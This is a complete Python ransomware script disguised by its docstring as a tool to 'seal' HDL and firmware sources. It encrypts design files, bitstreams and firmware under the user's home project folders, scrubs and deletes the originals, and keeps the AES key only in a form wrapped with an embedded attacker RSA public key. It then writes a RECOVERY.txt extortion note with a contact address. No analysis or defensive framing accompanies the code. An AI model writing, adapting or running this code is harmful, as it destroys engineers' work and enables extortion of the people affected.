#!/usr/bin/env python3
"""Seal HDL and firmware sources so they cannot be read without the lab key.

Walks the engineer's project trees, encrypts every design source, bitstream
and firmware image with AES-GCM under a fresh key, removes the plaintext and
drops a RECOVERY note in each project root. The key is wrapped with the
operator's RSA public key and only the wrapped form is kept locally.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")
TARGET_SUFFIXES = {".v", ".sv", ".vhd", ".vhdl", ".xdc", ".sdc", ".qsf", ".bit", ".bin",
                   ".mcs", ".elf", ".hex", ".c", ".h", ".dts", ".xpr", ".tcl"}
SKIP_DIRS = {".git", "node_modules", "__pycache__"}
OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""
NOTE = """Your FPGA and firmware sources in this tree have been sealed.
Files ending in .sealed cannot be opened without the recovery key.
Send the contents of {keyfile} and your lab ID to recovery@proton-vault.example
to receive the unsealing tool. Deleting .sealed files destroys your work.
"""


def wrap_key(key: bytes) -> bytes:
    pub = serialization.load_pem_public_key(OPERATOR_PUB)
    return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                         algorithm=hashes.SHA256(), label=None))


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_SUFFIXES:
                yield p


def seal_file(aead: AESGCM, path: Path) -> bool:
    try:
        data = path.read_bytes()
    except OSError:
        return False
    nonce = os.urandom(12)
    out = path.with_name(path.name + ".sealed")
    out.write_bytes(nonce + aead.encrypt(nonce, data, path.name.encode()))
    with open(path, "r+b") as fh:          # scrub plaintext before unlinking
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return True


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path,
                    default=[Path.home() / "fpga", Path.home() / "firmware", Path.home() / "projects"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    keyfile = Path.home() / ".seal_recovery.bin"
    keyfile.write_bytes(wrap_key(key))
    del key

    total = 0
    for root in args.roots:
        if not root.is_dir():
            continue
        sealed = sum(1 for p in candidates(root) if seal_file(aead, p))
        (root / "RECOVERY.txt").write_text(NOTE.format(keyfile=keyfile))
        log.info("%s: sealed %d files", root, sealed)
        total += sealed
    log.warning("sealed %d files in total", total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
